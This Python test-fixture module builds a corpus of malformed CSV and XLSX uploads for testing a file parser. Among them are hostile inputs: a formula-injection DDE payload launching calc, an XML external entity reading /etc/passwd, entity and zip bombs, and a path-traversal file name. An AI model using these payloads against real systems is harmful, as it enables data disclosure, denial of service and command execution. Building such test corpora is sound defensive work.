"""About a hundred malformed upload files, each named for what is wrong with it: broken CSV text and
encodings, broken or hostile zips and workbooks, formula and merged-cell abuse, files of the wrong kind."""

import codecs
import io
import random
import re
import zipfile
from collections.abc import Callable
from functools import cache

from .workbooks import (
    SHEET,
    TABLE,
    billion_laughs,
    lying_dimension,
    many_entries,
    rewrite_part,
    stray_cell,
    workbook_bytes,
    zip_bomb,
)

HEADINGS = "ชื่อองค์กร,ประเภท,รหัสพื้นที่\n"
ROW = "กลุ่มออมทรัพย์บ้านป่าซาง,องค์กรชุมชน,570101\n"
GOOD_CSV = (HEADINGS + ROW).encode("utf-8-sig")
GOOD_XLSX = workbook_bytes(TABLE)


def _csv_cases() -> dict[str, tuple[str, bytes]]:
    text = HEADINGS + ROW
    cases = {
        "empty": b"",
        "blank lines only": b"\n\r\n\r\n   \n",
        "bom only": codecs.BOM_UTF8,
        "bom twice": codecs.BOM_UTF8 * 2 + text.encode(),
        "utf-16-le with bom": codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
        "utf-16-be with bom": codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
        "utf-16 without bom": text.encode("utf-16-le"),
        "utf-32 with bom": text.encode("utf-32"),
        "nul in a cell": GOOD_CSV.replace(b"570101", b"570\x00101"),
        "tis-620": text.encode("cp874"),
        "bytes neither utf-8 nor tis-620": HEADINGS.encode() + b"\xdb\xdc\xfc\xff,x,570101\n",
        "latin-1": "Nom,Catégorie,Code\nÉcole,x,570101\n".encode("latin-1"),
        "shift-jis": "名前,種類,コード\n東京,x,570101\n".encode("shift_jis"),
        "truncated utf-8": GOOD_CSV[:-3],
        "one huge field": HEADINGS.encode() + b'"' + b"x" * 3_000_000 + b'",x,570101\n',
        "one huge line of cells": HEADINGS.encode() + b"x," * 1_000_000 + b"\n",
        "a million columns of headings": b",".join([b"h"] * 1_000_000) + b"\n" + ROW.encode(),
        "unterminated quote": (HEADINGS + '"กลุ่ม,องค์กรชุมชน,570101\n').encode(),
        "quote inside a cell": (HEADINGS + 'กลุ่ม"ออม"ทรัพย์,องค์กรชุมชน,570101\n').encode(),
        "headings only": HEADINGS.encode(),
        "carriage returns only": b"\r\r\r\r",
        "mixed line endings": (HEADINGS.replace("\n", "\r") + ROW.replace("\n", "\r\n") + ROW).encode(),
        "semicolons": text.replace(",", ";").encode(),
        "tabs": text.replace(",", "\t").encode(),
        "pipes": text.replace(",", "|").encode(),
        "formula cells": (
            HEADINGS + '=HYPERLINK("http://x.invalid/?"&A1;"click"),+cmd|\' /C calc\'!A0,@SUM(1)\n'
        ).encode(),
        "control characters": (HEADINGS + "\x01\x02\x1b[31m,\x7f,\x0b\x0c\n").encode(),
        "lone surrogate bytes": HEADINGS.encode() + b"\xed\xa0\x80,x,570101\n",
        "overlong utf-8": HEADINGS.encode() + b"\xc0\xaf,x,570101\n",
        "thai digits": (HEADINGS + "กลุ่ม,องค์กรชุมชน,๕๗๐๑๐๑\n").encode(),
        "a heading of 100,000 characters": ("ก" * 100_000 + ",ประเภท\nx,y\n").encode(),
        "more rows than allowed": (HEADINGS + "ก,องค์กรชุมชน,570101\n" * 50_001).encode(),
        "more than the upload limit": HEADINGS.encode() + b"x,y,z\n" * 1_000_000,
        "rows wider than the headings": (HEADINGS + "a,b,c,d,e,f,g\n").encode(),
        "zero-width and bidi marks": (HEADINGS + "\u200b\u202eกลุ่ม\u200d,องค์กรชุมชน,570101\n").encode(),
    }
    return {f"csv: {name}": ("upload.csv", data) for name, data in cases.items()}


def _with_entry(data: bytes, name: str, content: bytes) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _without_entry(data: bytes, dropped: str) -> bytes:
    source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            if entry.filename != dropped:
                target.writestr(entry.filename, source.read(entry.filename))
    return buffer.getvalue()


def _sheet(change: Callable[[str], str]) -> bytes:
    return rewrite_part(GOOD_XLSX, SHEET, change)


def _sheet_data(rows: str) -> bytes:
    """The good workbook with its <sheetData> replaced by rows (raw XML)."""
    return _sheet(
        lambda text: re.sub(
            r"<sheetData>.*</sheetData>|<sheetData/>", f"<sheetData>{rows}</sheetData>", text, flags=re.S
        )
    )


def _merges(ranges: list[str]) -> bytes:
    cells = "".join(f'<mergeCell ref="{ref}"/>' for ref in ranges)
    xml = f'<mergeCells count="{len(ranges)}">{cells}</mergeCells>'
    return _sheet(lambda text: text.replace("</sheetData>", "</sheetData>" + xml, 1))


def _xlsx_cases() -> dict[str, tuple[str, bytes]]:
    good = GOOD_XLSX
    wide = workbook_bytes({f"{_letter(n)}1": f"h{n}" for n in range(1, 230)})
    cases = {
        "truncated to 10%": good[: len(good) // 10],
        "truncated to half": good[: len(good) // 2],
        "truncated to 90%": good[: len(good) * 9 // 10],
        "last byte missing": good[:-1],
        "end of central directory missing": good[:-22],
        "wrong magic": b"XK" + good[2:],
        "zip magic then garbage": b"PK\x03\x04" + random.Random(1).randbytes(4000),
        "empty zip": b"PK\x05\x06" + b"\0" * 18,
        "zip without a workbook": _without_entry(good, "xl/workbook.xml"),
        "zip without the sheet": _without_entry(good, SHEET),
        "zip without content types": _without_entry(good, "[Content_Types].xml"),
        "zip without shared strings": _without_entry(good, "xl/sharedStrings.xml"),
        "a zip that is a text file": _zip({"readme.txt": b"hello"}),
        "sheet xml unclosed": _sheet(lambda text: text[: len(text) // 2]),
        "sheet xml not xml": _sheet(lambda text: "not xml at all"),
        "workbook xml broken": rewrite_part(
            good, "xl/workbook.xml", lambda text: text.replace("<sheets>", "<sheets")
        ),
        "shared string index out of range": _sheet_data('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'),
        "shared string index not a number": _sheet_data('<row r="1"><c r="A1" t="s"><v>abc</v></c></row>'),
        "number cell not a number": _sheet_data(
            '<row r="1"><c r="A1"><v>abc</v></c><c r="B1"><v>1</v></c></row>'
        ),
        "error cells": _sheet_data(
            '<row r="1"><c r="A1" t="e"><v>#DIV/0!</v></c><c r="B1" t="e"><v>#REF!</v></c></row>'
        ),
        "boolean and date cells": _sheet_data(
            '<row r="1"><c r="A1" t="b"><v>1</v></c><c r="B1" t="d"><v>2562-05-14T00:00:00</v></c></row>'
        ),
        "absurd date serial": _sheet_data(
            '<row r="1"><c r="A1" s="1"><v>1e300</v></c><c r="B1"><v>1</v></c></row>'
        ),
        "inline strings": _sheet_data(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>ชื่อองค์กร</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>รหัสพื้นที่</t></is></c></row>'
        ),
        "formula without a cached value": _sheet_data(
            '<row r="1"><c r="A1"><f>1+1</f></c><c r="B1"><v>1</v></c></row>'
        ),
        "formula cells": workbook_bytes(
            {**TABLE, "A3": '=HYPERLINK("http://x.invalid/","click")', "B3": "=1+1"}
        ),
        "row numbered 0": _sheet_data('<row r="0"><c r="A0"><v>1</v></c><c r="B0"><v>2</v></c></row>'),
        "row numbered negative": _sheet_data('<row r="-5"><c r="A1"><v>1</v></c></row>'),
        "row number not a number": _sheet_data('<row r="x"><c r="A1"><v>1</v></c></row>'),
        "rows out of order": _sheet_data(
            '<row r="3"><c r="A3"><v>1</v></c><c r="B3"><v>2</v></c></row>'
            '<row r="1"><c r="A1"><v>3</v></c><c r="B1"><v>4</v></c></row>'
        ),
        "cell without a reference": _sheet_data('<row r="1"><c><v>1</v></c><c><v>2</v></c></row>'),
        "cell reference past XFD": _sheet_data('<row r="1"><c r="XFE1"><v>1</v></c></row>'),
        "a row past the last row of Excel": _sheet_data(
            '<row r="1048577"><c r="A1048577"><v>1</v></c></row>'
        ),
        "a cell of 100,000 characters": workbook_bytes({**TABLE, "A3": "ก" * 100_000, "B3": "570101"}),
        "229 columns of headings": wide,
        "a full row of 16384 cells": _sheet_data(
            '<row r="1">'
            + "".join(f'<c r="{_letter(n)}1"><v>{n}</v></c>' for n in range(1, 16385))
            + "</row>"
        ),
        "merged across the whole sheet": _merges(["A1:XFD1048576"]),
        "a hundred thousand merges": _merges([f"C{n}:D{n}" for n in range(1, 100_001)]),
        "overlapping merges": _merges(["A1:B2", "A1:B3", "B1:C1"]),
        "merge reference not a range": _merges(["ZZZZ0:A"]),
        "merged heading over nothing": _merges(["A1:Z1"]),
        "an encrypted entry": _encrypted(good),
        "a stray cell at CV1048576": stray_cell("CV1048576"),
        "a stray cell at ALL1048576": stray_cell("ALL1048576"),
        "a stray cell at XFD1048576": stray_cell("XFD1048576"),
        "no dimension and a stray cell": lying_dimension("XFD1048576", None),
        "a dimension that hides a stray cell": lying_dimension("A1048576", "A1:B2"),
        "a zip bomb": zip_bomb(110 * 1024 * 1024),
        "two thousand entries": many_entries(2000),
        "an entity bomb in the sheet": billion_laughs(),
        "an entity bomb in the shared strings": billion_laughs("xl/sharedStrings.xml"),
        "an external entity": _sheet(
            lambda text: (
                '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                + re.sub(r"^<\?xml[^>]*\?>", "", text).replace("<v>", "<v>&e;", 1)
            )
        ),
        "a sheet with no rows": _sheet_data(""),
        "an extra entry of garbage": _with_entry(
            good, "xl/worksheets/sheet9.xml", random.Random(2).randbytes(2000)
        ),
    }
    named = {f"xlsx: {name}": ("upload.xlsx", data) for name, data in cases.items()}
    named["xlsx: a workbook named .csv"] = ("upload.csv", good)
    named["xlsx: a workbook named .xlsm"] = ("upload.xlsm", good)
    named["xlsx: a workbook with no extension"] = ("upload", good)
    named["xlsx: CSV text named .xlsx"] = ("upload.xlsx", GOOD_CSV)
    return named


def _other_cases() -> dict[str, tuple[str, bytes]]:
    cases = {
        "old excel .xls": ("upload.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000),
        "pdf named .csv": ("upload.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
        "png named .xlsx": ("upload.xlsx", b"\x89PNG\r\n\x1a\n" + b"\0" * 100),
        "gzip named .csv": ("upload.csv", b"\x1f\x8b\x08\x00" + b"\0" * 100),
        "7z named .xlsx": ("upload.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 100),
        "html named .xls": ("upload.xls", b"<html><table><tr><td>a</td></tr></table></html>"),
        "a name with a path": ("../../etc/passwd.csv", GOOD_CSV),
        "a name of 500 characters": ("ก" * 496 + ".csv", GOOD_CSV),
    }
    for seed in range(8):
        cases[f"random bytes {seed}"] = (
            "upload.csv" if seed % 2 else "upload.xlsx",
            random.Random(seed).randbytes(5000),
        )
    return {f"other: {name}": case for name, case in cases.items()}


def _letter(number: int) -> str:
    letters = ""
    while number:
        number, remainder = divmod(number - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _encrypted(data: bytes) -> bytes:
    """The workbook with the "encrypted" flag set on every entry (as a password-protected zip has)."""
    raw = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := raw.find(signature, start)) != -1:
            raw[start + flag_offset] |= 1
            start += 4
    return bytes(raw)


@cache
def corpus() -> dict[str, tuple[str, bytes]]:
    """Every malformed file, by name: (the file name it is uploaded under, its bytes)."""
    return {**_csv_cases(), **_xlsx_cases(), **_other_cases()}
